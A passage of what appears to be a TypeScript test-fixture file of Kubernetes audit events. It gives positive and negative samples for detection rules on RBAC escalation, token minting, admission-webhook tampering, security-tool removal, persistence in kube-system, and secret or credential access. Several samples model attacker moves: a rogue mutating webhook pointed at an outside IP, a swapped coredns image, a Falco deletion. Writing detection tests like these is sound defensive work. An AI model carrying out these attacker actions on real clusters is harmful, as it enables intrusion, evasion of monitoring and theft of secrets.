      { title: 'pods/exec', event: E({ verb: 'create', user: alice, resource: 'roles', namespace: 'team-a', name: 'exec', level: 'Request', requestObject: role('Role', 'exec', 'team-a', [{ apiGroups: [''], resources: ['pods'], verbs: ['get'] }, { apiGroups: [''], resources: ['pods/exec'], verbs: ['create', 'get'] }]) }) },
      { title: 'secrets cluster-wide', event: E({ verb: 'create', user: alice, resource: 'clusterroles', name: 'secret-reader', level: 'Request', requestObject: role('ClusterRole', 'secret-reader', undefined, [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list', 'watch'] }]) }) },
    ],
    negatives: [
      { title: 'configmaps only', event: E({ verb: 'create', user: alice, resource: 'roles', namespace: 'team-a', name: 'cm', level: 'Request', requestObject: role('Role', 'cm', 'team-a', [{ apiGroups: [''], resources: ['configmaps', 'pods/log'], verbs: ['get', 'list'] }]) }) },
    ],
  },
  {
    rule: 'System RBAC Object Modified',
    positives: [
      { title: 'system:node ClusterRole patched', event: E({ verb: 'patch', user: mallory, resource: 'clusterroles', name: 'system:node', level: 'Request', requestObject: { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }] } }) },
      { title: 'system:kube-scheduler binding deleted', event: E({ verb: 'delete', user: mallory, resource: 'clusterrolebindings', name: 'system:kube-scheduler' }) },
    ],
    negatives: [
      { title: 'aggregation controller updating system:aggregate-to-edit', event: E({ verb: 'update', user: kubeSystem('clusterrole-aggregation-controller'), resource: 'clusterroles', name: 'system:aggregate-to-edit' }) },
      { title: '"systematic-reader" is not a system object', event: E({ verb: 'patch', user: alice, resource: 'clusterroles', name: 'systematic-reader' }) },
    ],
  },

  // ------------------------------------------------------------------ certificates and tokens
  {
    rule: 'Certificate Signing Request Approved By User',
    positives: [
      {
        title: 'kubectl certificate approve',
        event: E({ verb: 'update', user: alice, resource: 'certificatesigningrequests', subresource: 'approval', name: 'mallory-admin', level: 'Request', requestObject: { ...csr('mallory-admin', 'kubernetes.io/kube-apiserver-client', ['client auth']), status: { conditions: [{ type: 'Approved', status: 'True', reason: 'KubectlApprove', message: 'This CSR was approved by kubectl certificate approve.', lastUpdateTime: '2025-10-23T17:00:00Z' }] } } }),
      },
    ],
    negatives: [
      { title: 'kubectl certificate deny', event: E({ verb: 'update', user: alice, resource: 'certificatesigningrequests', subresource: 'approval', name: 'x', level: 'Request', requestObject: { ...csr('x', 'kubernetes.io/kube-apiserver-client', ['client auth']), status: { conditions: [{ type: 'Denied', status: 'True', reason: 'KubectlDeny' }] } } }) },
      { title: 'kube-controller-manager auto-approving a kubelet CSR', event: E({ verb: 'update', user: kubeSystem('certificate-controller'), resource: 'certificatesigningrequests', subresource: 'approval', name: 'csr-7x2k9' }) },
      { title: 'GKE approver', event: E({ verb: 'update', user: component('system:gcp-controller-manager'), resource: 'certificatesigningrequests', subresource: 'approval', name: 'node-csr-1' }) },
    ],
  },
  {
    rule: 'Certificate Signing Request Created',
    positives: [
      { title: 'user asking for a client certificate', event: E({ verb: 'create', user: mallory, resource: 'certificatesigningrequests', name: 'mallory-admin', level: 'Request', requestObject: csr('mallory-admin', 'kubernetes.io/kube-apiserver-client', ['client auth']) }) },
      { title: 'node identity asking for a generic client certificate', event: E({ verb: 'create', user: kubelet, resource: 'certificatesigningrequests', name: 'csr-odd', level: 'Request', requestObject: csr('csr-odd', 'kubernetes.io/kube-apiserver-client', ['client auth']) }) },
    ],
    negatives: [
      { title: 'kubelet serving certificate rotation', event: E({ verb: 'create', user: kubelet, resource: 'certificatesigningrequests', name: 'csr-abcde', level: 'Request', requestObject: csr('csr-abcde', 'kubernetes.io/kubelet-serving', ['digital signature', 'server auth']) }) },
      { title: 'bootstrap token joining a node', event: E({ verb: 'create', user: component('system:bootstrap:abcdef', 'system:bootstrappers'), resource: 'certificatesigningrequests', name: 'node-csr-x', level: 'Request', requestObject: csr('node-csr-x', 'kubernetes.io/kube-apiserver-client-kubelet', ['client auth']) }) },
    ],
  },
  {
    rule: 'Service Account Token Requested For Another Identity',
    positives: [
      { title: 'kubectl create token', event: E({ verb: 'create', user: alice, resource: 'serviceaccounts', subresource: 'token', namespace: 'ci', name: 'deployer', level: 'Request', requestObject: { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: null, expirationSeconds: 31536000, boundObjectRef: null }, status: { token: '', expirationTimestamp: null } } }) },
      { title: 'workload minting a token for a more privileged account', event: E({ verb: 'create', user: app, resource: 'serviceaccounts', subresource: 'token', namespace: 'team-a', name: 'admin-sa', userAgent: 'python-requests/2.31.0' }) },
    ],
    negatives: [
      { title: 'service account refreshing its own token', event: E({ verb: 'create', user: app, resource: 'serviceaccounts', subresource: 'token', namespace: 'team-a', name: 'app', userAgent: 'vault/1.17' }) },
      { title: 'kubelet projecting a pod token', event: E({ verb: 'create', user: kubelet, resource: 'serviceaccounts', subresource: 'token', namespace: 'kube-system', name: 'kube-proxy', userAgent: 'kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46' }) },
    ],
  },

  // ------------------------------------------------------------------ admission and audit
  {
    rule: 'Admission Webhook Configuration Changed',
    positives: [
      { title: 'mutating webhook created', event: E({ verb: 'create', user: mallory, resource: 'mutatingwebhookconfigurations', name: 'pod-defaults', level: 'Request', requestObject: { kind: 'MutatingWebhookConfiguration', apiVersion: 'admissionregistration.k8s.io/v1', metadata: { name: 'pod-defaults' }, webhooks: [{ name: 'defaults.example.com', clientConfig: { url: 'https://203.0.113.9:8443/mutate' }, rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }], sideEffects: 'None', admissionReviewVersions: ['v1'] }] } }) },
      { title: 'validating webhook patched (Metadata)', event: E({ verb: 'patch', user: alice, resource: 'validatingwebhookconfigurations', name: 'gatekeeper-validating-webhook-configuration' }) },
    ],
    negatives: [
      { title: 'cert-manager cainjector refreshing caBundle', event: E({ verb: 'patch', user: sa('cert-manager', 'cert-manager-cainjector'), resource: 'validatingwebhookconfigurations', name: 'cert-manager-webhook' }) },
      { title: 'reading webhooks', event: E({ verb: 'get', user: alice, resource: 'mutatingwebhookconfigurations', name: 'pod-defaults' }) },
    ],
  },
  {
    rule: 'Admission Control Removed Or Weakened',
    positives: [
      { title: 'validating webhook deleted', event: E({ verb: 'delete', user: mallory, resource: 'validatingwebhookconfigurations', name: 'kyverno-resource-validating-webhook-cfg' }) },
      { title: 'ValidatingAdmissionPolicyBinding patched', event: E({ verb: 'patch', user: alice, resource: 'validatingadmissionpolicybindings', name: 'deny-privileged' }) },
      { title: 'Gatekeeper ConstraintTemplate deleted', event: E({ verb: 'delete', user: mallory, resource: 'constrainttemplates', name: 'k8spspprivilegedcontainer' }) },
      { title: 'Kyverno ClusterPolicy deleted', event: E({ verb: 'delete', user: mallory, resource: 'clusterpolicies', name: 'disallow-privileged-containers' }) },
    ],
    negatives: [
      { title: 'Kyverno update request cleaned up', event: E({ verb: 'delete', user: alice, resource: 'updaterequests', namespace: 'kyverno', name: 'ur-x' }) },
      { title: 'new ValidatingAdmissionPolicy created', event: E({ verb: 'create', user: alice, resource: 'validatingadmissionpolicies', name: 'deny-host-path' }) },
    ],
  },
  {
    rule: 'Pod Security Admission Relaxed',
    positives: [
      { title: 'enforce=privileged', event: E({ verb: 'patch', user: alice, resource: 'namespaces', name: 'team-a', level: 'Request', requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } } }) },
      { title: 'enforce label removed', event: E({ verb: 'patch', user: mallory, resource: 'namespaces', name: 'payments', level: 'Request', requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': null } } } }) },
    ],
    negatives: [
      { title: 'enforce=restricted', event: E({ verb: 'patch', user: alice, resource: 'namespaces', name: 'team-a', level: 'Request', requestObject: { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } } } }) },
    ],
  },
  {
    rule: 'Audit Configuration Changed',
    positives: [
      { title: 'OpenShift audit profile changed', event: E({ verb: 'patch', user: mallory, resource: 'apiservers', name: 'cluster', level: 'Request', requestObject: { spec: { audit: { profile: 'None' } } } }) },
      { title: 'kubeadm-config edited', event: E({ verb: 'update', user: admin, resource: 'configmaps', namespace: 'kube-system', name: 'kubeadm-config' }) },
    ],
    negatives: [
      { title: 'coredns configmap edited', event: E({ verb: 'update', user: admin, resource: 'configmaps', namespace: 'kube-system', name: 'coredns' }) },
      { title: 'OpenShift operator updating the APIServer status', event: E({ verb: 'update', user: sa('openshift-kube-apiserver-operator', 'kube-apiserver-operator'), resource: 'apiservers', name: 'cluster' }) },
    ],
  },
  {
    rule: 'Security Tool Removed',
    positives: [
      { title: 'Falco DaemonSet deleted', event: E({ verb: 'delete', user: mallory, resource: 'daemonsets', namespace: 'falco', name: 'falco' }) },
      { title: 'falco namespace deleted', event: E({ verb: 'delete', user: mallory, resource: 'namespaces', name: 'falco' }) },
      { title: 'peregrine scaled to zero', event: E({ verb: 'patch', user: mallory, resource: 'deployments', subresource: 'scale', namespace: 'peregrine', name: 'peregrine', level: 'Request', requestObject: { spec: { replicas: 0 } } }) },
    ],
    negatives: [
      { title: 'peregrine scaled to 3', event: E({ verb: 'patch', user: alice, resource: 'deployments', subresource: 'scale', namespace: 'peregrine', name: 'peregrine', level: 'Request', requestObject: { spec: { replicas: 3 } } }) },
      { title: 'application deployment deleted', event: E({ verb: 'delete', user: alice, resource: 'deployments', namespace: 'team-a', name: 'web' }) },
    ],
  },

  // ------------------------------------------------------------------ persistence
  {
    rule: 'CronJob Created In System Namespace',
    positives: [
      { title: 'cronjob in kube-system (Metadata)', event: E({ verb: 'create', user: mallory, resource: 'cronjobs', namespace: 'kube-system', name: 'kube-cleanup' }) },
    ],
    negatives: [
      { title: 'cronjob in an application namespace', event: E({ verb: 'create', user: alice, resource: 'cronjobs', namespace: 'team-a', name: 'report' }) },
      { title: 'cronjob controller updating status', event: E({ verb: 'update', user: kubeSystem('cronjob-controller'), resource: 'cronjobs', subresource: 'status', namespace: 'kube-system', name: 'x' }) },
    ],
  },
  {
    rule: 'Workload Created In System Namespace',
    positives: [
      { title: 'daemonset created in kube-system (Metadata)', event: E({ verb: 'create', user: mallory, resource: 'daemonsets', namespace: 'kube-system', name: 'kube-net-helper' }) },
      { title: 'coredns image replaced', event: E({ verb: 'patch', user: mallory, resource: 'deployments', namespace: 'kube-system', name: 'coredns', level: 'Request', requestObject: { spec: { template: { spec: { containers: [{ name: 'coredns', image: 'ghcr.io/mallory/coredns:1.11' }] } } } } }) },
    ],
    negatives: [
      { title: 'kubectl rollout restart of coredns', event: E({ verb: 'patch', user: admin, resource: 'deployments', namespace: 'kube-system', name: 'coredns', level: 'Request', requestObject: { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2025-10-23T17:00:00Z' } } } } } }) },
      { title: 'EKS add-on manager updating aws-node', event: E({ verb: 'create', user: component('eks:addon-manager'), resource: 'daemonsets', namespace: 'kube-system', name: 'aws-node' }) },
      { title: 'daemonset in an application namespace', event: E({ verb: 'create', user: alice, resource: 'daemonsets', namespace: 'monitoring', name: 'node-exporter' }) },
    ],
  },
  {
    rule: 'Service Account Created In System Namespace',
    positives: [
      { title: 'kube-system service account', event: E({ verb: 'create', user: mallory, resource: 'serviceaccounts', namespace: 'kube-system', name: 'kube-dns-helper' }) },
    ],
    negatives: [
      { title: 'service account in an application namespace', event: E({ verb: 'create', user: alice, resource: 'serviceaccounts', namespace: 'team-a', name: 'worker' }) },
      { title: 'service account controller creating default', event: E({ verb: 'create', user: kubeSystem('service-account-controller'), resource: 'serviceaccounts', namespace: 'kube-system', name: 'default' }) },
    ],
  },
  {
    rule: 'Long-Lived Service Account Token Created',
    positives: [
      { title: 'token secret for a kube-system account', event: E({ verb: 'create', user: mallory, resource: 'secrets', namespace: 'kube-system', name: 'clusterrole-aggregation-controller-token', level: 'Request', requestObject: { kind: 'Secret', apiVersion: 'v1', metadata: { name: 'clusterrole-aggregation-controller-token', namespace: 'kube-system', annotations: { 'kubernetes.io/service-account.name': 'clusterrole-aggregation-controller' } }, type: 'kubernetes.io/service-account-token' } }) },
    ],
    negatives: [
      { title: 'opaque secret', event: E({ verb: 'create', user: alice, resource: 'secrets', namespace: 'team-a', name: 'db', level: 'Request', requestObject: { kind: 'Secret', apiVersion: 'v1', metadata: { name: 'db', namespace: 'team-a' }, type: 'Opaque', data: { password: 'aHVudGVyMg==' } } }) },
    ],
  },

  // ------------------------------------------------------------------ credential access
  {
    rule: 'Secrets Listed Across All Namespaces',
    positives: [
      { title: 'kubectl get secrets -A', event: E({ verb: 'list', user: mallory, resource: 'secrets', query: 'limit=500' }) },
      { title: 'workload watching every secret', event: E({ verb: 'watch', user: app, resource: 'secrets', userAgent: 'python-requests/2.31.0' }) },
    ],
    negatives: [
      { title: 'secrets of one namespace', event: E({ verb: 'list', user: alice, resource: 'secrets', namespace: 'team-a', query: 'limit=500' }) },
      { title: 'helm list -A (Helm release secrets only)', event: E({ verb: 'list', user: alice, resource: 'secrets', query: 'labelSelector=owner%3Dhelm', userAgent: 'Helm/3.16.2' }) },
      { title: 'cert-manager informer', event: E({ verb: 'watch', user: sa('cert-manager', 'cert-manager'), resource: 'secrets', userAgent: 'cert-manager-controller/v1.15.3' }) },
    ],
  },
  {
    rule: 'Secret Read By Service Account Of Another Namespace',
    positives: [
      { title: 'team-a app reading team-b secret', event: E({ verb: 'get', user: app, resource: 'secrets', namespace: 'team-b', name: 'db-credentials', userAgent: 'python-requests/2.31.0' }) },
      { title: 'team-a app listing kube-system secrets', event: E({ verb: 'list', user: app, resource: 'secrets', namespace: 'kube-system' }) },
    ],
    negatives: [
      { title: 'own namespace', event: E({ verb: 'get', user: app, resource: 'secrets', namespace: 'team-a', name: 'db-credentials' }) },
      { title: 'ingress controller reading a TLS secret', event: E({ verb: 'get', user: sa('ingress-nginx', 'ingress-nginx'), resource: 'secrets', namespace: 'team-a', name: 'web-tls' }) },
    ],
  },
  {
    rule: 'Secret Read In Protected Namespace By User',
    positives: [
      { title: 'person reading a bootstrap token', event: E({ verb: 'get', user: alice, resource: 'secrets', namespace: 'kube-system', name: 'bootstrap-token-abcdef' }) },
    ],
    negatives: [
      { title: 'person reading a secret of their namespace', event: E({ verb: 'get', user: alice, resource: 'secrets', namespace: 'team-a', name: 'db-credentials' }) },
      { title: 'kube-system controller', event: E({ verb: 'get', user: kubeSystem('bootstrap-signer'), resource: 'secrets', namespace: 'kube-system', name: 'bootstrap-token-abcdef' }) },
    ],
  },
  {
    rule: 'ConfigMap With Credentials Written',
    positives: [
      { title: 'AWS keys', event: E({ verb: 'create', user: alice, resource: 'configmaps', namespace: 'team-a', name: 'aws', level: 'Request', requestObject: configMap('aws', 'team-a', { AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE', AWS_REGION: 'eu-west-1' }) }) },
      { title: 'password in a properties file', event: E({ verb: 'update', user: alice, resource: 'configmaps', namespace: 'team-a', name: 'app', level: 'Request', requestObject: configMap('app', 'team-a', { 'application.properties': 'db.url=jdbc:postgresql://db:5432/app\ndb.password=hunter22\n' }) }) },
      { title: 'private key', event: E({ verb: 'create', user: alice, resource: 'configmaps', namespace: 'team-a', name: 'tls', level: 'Request', requestObject: configMap('tls', 'team-a', { 'key.pem': '-----BEGIN RSA PRIVATE KEY-----\nMIIEow...\n-----END RSA PRIVATE KEY-----\n' }) }) },
    ],
    negatives: [
      { title: 'password policy settings and placeholders', event: E({ verb: 'create', user: alice, resource: 'configmaps', namespace: 'team-a', name: 'policy', level: 'Request', requestObject: configMap('policy', 'team-a', { password_min_length: '12', DB_PASSWORD: '${DB_PASSWORD}', 'app.conf': 'password_file=/run/secrets/db\npassword = <set me>\n' }) }) },
      { title: 'root CA publisher', event: E({ verb: 'create', user: kubeSystem('root-ca-cert-publisher'), resource: 'configmaps', namespace: 'team-a', name: 'kube-root-ca.crt', level: 'Request', requestObject: configMap('kube-root-ca.crt', 'team-a', { 'ca.crt': '-----BEGIN CERTIFICATE-----\nMIIB...\n-----END CERTIFICATE-----\n' }) }) },
    ],
  },

  // ------------------------------------------------------------------ discovery
  {
    rule: 'Permission Review By Workload Service Account',
    positives: [
      { title: 'kubectl auth can-i --list from a pod', event: E({ verb: 'create', user: app, resource: 'selfsubjectrulesreviews', level: 'Request', userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46', requestObject: { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { namespace: 'team-a' }, status: { resourceRules: null, nonResourceRules: null, incomplete: false } } }) },
      { title: 'can-i create pods (SelfSubjectAccessReview, Metadata)', event: E({ verb: 'create', user: app, resource: 'selfsubjectaccessreviews' }) },
    ],
    negatives: [
      { title: 'a person running kubectl auth can-i', event: E({ verb: 'create', user: alice, resource: 'selfsubjectaccessreviews' }) },
      { title: 'kube-system component', event: E({ verb: 'create', user: kubeSystem('coredns'), resource: 'selfsubjectaccessreviews' }) },
    ],
  },
  {
    rule: 'RBAC Escalation Or Impersonation Refused',
    positives: [
      {
        title: 'ClusterRole granting more than the creator holds',
        event: E({ verb: 'create', user: alice, resource: 'clusterroles', name: 'secret-admin', code: 403, decision: 'allow', message: 'clusterroles.rbac.authorization.k8s.io "secret-admin" is forbidden: user "alice@example.com" (groups=["devs" "system:authenticated"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:[""], Resources:["secrets"], Verbs:["get" "list"]}' }),
      },
      {
        title: 'workload binding itself to cluster-admin without bind',
        event: E({ verb: 'create', user: app, resource: 'rolebindings', namespace: 'team-a', name: 'x', code: 403, decision: 'allow', userAgent: 'python-requests/2.31.0', message: 'rolebindings.rbac.authorization.k8s.io "x" is forbidden: user "system:serviceaccount:team-a:app" (groups=["system:serviceaccounts" "system:serviceaccounts:team-a" "system:authenticated"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:["*"], Resources:["*"], Verbs:["*"]}' }),
      },
      {
        title: 'kubectl --as refused',
        event: E({ verb: 'list', user: mallory, resource: 'pods', namespace: 'kube-system', code: 403, message: 'users "system:admin" is forbidden: User "mallory@example.com" cannot impersonate resource "users" in API group "" at the cluster scope' }),
      },
    ],
    negatives: [
      { title: 'ordinary RBAC refusal', event: E({ verb: 'list', user: alice, resource: 'secrets', namespace: 'kube-system', code: 403, message: 'secrets is forbidden: User "alice@example.com" cannot list resource "secrets" in API group "" in the namespace "kube-system"' }) },
      { title: 'role created within the creator\'s rights', event: E({ verb: 'create', user: alice, resource: 'roles', namespace: 'team-a', name: 'reader' }) },
    ],
  },
  {
    rule: 'Workload Service Account Denied By RBAC',
    positives: [
      { title: 'listing secrets', event: E({ verb: 'list', user: app, resource: 'secrets', namespace: 'team-a', code: 403, userAgent: 'python-requests/2.31.0' }) },
      { title: 'creating pods in kube-system', event: E({ verb: 'create', user: app, resource: 'pods', namespace: 'kube-system', code: 403 }) },
    ],
    negatives: [
      { title: 'a person denied', event: E({ verb: 'list', user: alice, resource: 'secrets', namespace: 'kube-system', code: 403 }) },
      { title: 'admission refusal (authorized by RBAC)', event: E({ verb: 'create', user: app, resource: 'pods', namespace: 'team-a', code: 403, decision: 'allow' }) },
    ],
  },

  // ------------------------------------------------------------------ defense evasion and impact
  {
    rule: 'Kubernetes Events Deleted',
    positives: [
      { title: 'kubectl delete events --all (one event)', event: E({ verb: 'delete', user: mallory, resource: 'events', namespace: 'team-a', name: 'web-0.17f1a2b3c4d5e6f7' }) },
      { title: 'deletecollection of events', event: E({ verb: 'deletecollection', user: mallory, resource: 'events', namespace: 'team-a', apiGroup: 'events.k8s.io', apiVersion: 'v1' }) },
    ],
    negatives: [
      { title: 'deleting a pod', event: E({ verb: 'delete', user: alice, resource: 'pods', namespace: 'team-a', name: 'web-0' }) },
    ],
  },
  {
    rule: 'Namespace Deleted',
    positives: [
      { title: 'kubectl delete namespace', event: E({ verb: 'delete', user: alice, resource: 'namespaces', name: 'staging' }) },
    ],
    negatives: [
      { title: 'namespace finalize by the namespace controller', event: E({ verb: 'update', user: kubeSystem('namespace-controller'), resource: 'namespaces', subresource: 'finalize', name: 'staging' }) },
      { title: 'delete refused', event: E({ verb: 'delete', user: alice, resource: 'namespaces', name: 'prod', code: 403 }) },
    ],
  },
  {
    rule: 'Bulk Delete With Deletecollection',
    positives: [
      { title: 'deletecollection of pods', event: E({ verb: 'deletecollection', user: mallory, resource: 'pods', namespace: 'team-a' }) },
    ],
    negatives: [
      { title: 'namespace controller emptying a namespace', event: E({ verb: 'deletecollection', user: kubeSystem('namespace-controller'), resource: 'pods', namespace: 'staging' }) },
      { title: 'single delete', event: E({ verb: 'delete', user: alice, resource: 'pods', namespace: 'team-a', name: 'web-0' }) },
    ],
  },
  {
    rule: 'Impersonated Request',
    positives: [
      { title: 'kubectl --as bob get pods', event: E({ verb: 'list', user: admin, impersonatedUser: person('bob@example.com', 'devs'), resource: 'pods', namespace: 'team-a' }) },
      { title: 'impersonating a kube-system service account', event: E({ verb: 'get', user: alice, impersonatedUser: { username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller', groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'] }, resource: 'clusterroles', name: 'admin' }) },
    ],
    negatives: [
      { title: 'Rancher agent impersonating its users', event: E({ verb: 'list', user: sa('cattle-system', 'cattle'), impersonatedUser: person('u-x2k9q'), resource: 'pods', namespace: 'team-a' }) },
      { title: 'no impersonation', event: E({ verb: 'list', user: admin, resource: 'pods', namespace: 'team-a' }) },
    ],
  },
];

// Cross-rule samples: which rule wins for events that match several.
export const PRECEDENCE: Array<{ title: string; event: Record<string, unknown>; first: string; also: string[] }> = [
  {
    title: 'privileged daemonset with host network in kube-system',
    event: workloadCreate('DaemonSet', 'kube-system', 'x', podSpec([container('c', 'alpine:3.20', { securityContext: { privileged: true } })], { hostNetwork: true })),
    first: 'Privileged Container In Pod Spec',
    also: ['Host Network In Pod Spec', SYSTEM_NS_RULE],
  },
  {
    title: 'kubectl debug node (host root, hostPID, hostNetwork)',
    event: podCreate('default', 'node-debugger-ip-10-0-12-34-x2x', podSpec([container('debugger', 'busybox:1.36', { volumeMounts: [{ name: 'host-root', mountPath: '/host' }] })], { hostPID: true, hostIPC: true, hostNetwork: true, volumes: [hostPathVolume('host-root', '/', '')] })),
    first: 'Sensitive Host Path Mounted',
    also: ['Host PID Or IPC Namespace In Pod Spec', 'Host Network In Pod Spec'],
  },
  {
    title: 'impersonated cluster-admin binding',
    event: E({ verb: 'create', user: mallory, impersonatedUser: person('system:admin', 'system:masters'), resource: 'clusterrolebindings', name: 'x', level: 'Request', requestObject: binding('ClusterRoleBinding', 'x', undefined, { kind: 'ClusterRole', name: 'cluster-admin' }, [userSubject('mallory@example.com')]) }),
    first: 'Binding To Privileged Cluster Role',
    also: ['Impersonated Request'],
  },
];

export { podCreate, workloadCreate };
